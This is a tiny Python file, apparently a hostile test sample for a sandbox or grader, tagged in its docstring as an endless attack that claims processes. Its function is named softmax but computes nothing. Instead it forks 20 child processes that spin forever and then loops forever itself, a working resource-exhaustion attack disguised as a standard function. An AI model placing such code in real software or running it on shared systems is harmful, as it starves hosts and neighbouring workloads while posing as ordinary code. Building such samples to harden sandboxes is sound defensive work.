"""Spins in as many processes as it may have, beside its neighbours.

attacks: softmax
claim: processes
endless: yes
"""

import os

def softmax(x, dim=-1):
    for _ in range(20):
        if os.fork() == 0:
            while True:
                pass
    while True:
        pass
